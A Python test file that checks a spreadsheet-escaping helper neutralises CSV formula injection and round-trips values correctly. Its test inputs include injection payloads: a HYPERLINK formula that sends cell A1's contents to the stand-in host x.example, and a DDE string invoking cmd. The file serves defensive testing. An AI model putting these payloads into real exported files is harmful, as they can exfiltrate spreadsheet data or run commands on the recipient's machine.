"""CSV that a spreadsheet opens runs nothing, and says the same values."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aboveboard.basics import spreadsheet

LEADING = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
VALUES = st.text(alphabet=st.sampled_from([*LEADING, "'", '"', ",", ";", " ", "a", "1", "é"]))


@pytest.mark.parametrize("first", LEADING, ids=repr)
@pytest.mark.parametrize(
    "rest", ["", "1+1", 'HYPERLINK("http://x.example?"&A1,"x")', "cmd|' /C'!A0"]
)
def test_nothing_that_a_spreadsheet_runs_begins_a_cell(first: str, rest: str) -> None:
    value = first + rest
    assert spreadsheet.escape_cell(value) == "'" + value
    assert spreadsheet.unescape_cell(spreadsheet.escape_cell(value)) == value


@pytest.mark.parametrize("value", ["'t Hooft", "O'Hara", "", "Ada", "a=b", "'", "''", "12", "é"])
def test_everything_else_stays_as_it_is(value: str) -> None:
    assert spreadsheet.escape_cell(value) == value
    assert spreadsheet.unescape_cell(value) == value


@given(st.lists(VALUES, min_size=2))
def test_what_was_written_is_read_back(values: list[str]) -> None:
    (row,) = csv.reader(io.StringIO(spreadsheet.csv_line(values), newline=""))
    assert [spreadsheet.unescape_cell(cell) for cell in row] == values
    assert not any(cell.startswith(tuple(LEADING)) for cell in row)


@given(VALUES, st.sampled_from([";", "\t"]))
def test_no_formula_begins_where_another_country_splits(value: str, separator: str) -> None:
    """A spreadsheet that splits at semicolons sees no cell that it would run either."""
    text = spreadsheet.csv_line([value, "x"])
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        assert not any(cell.startswith(tuple(LEADING)) for cell in row)
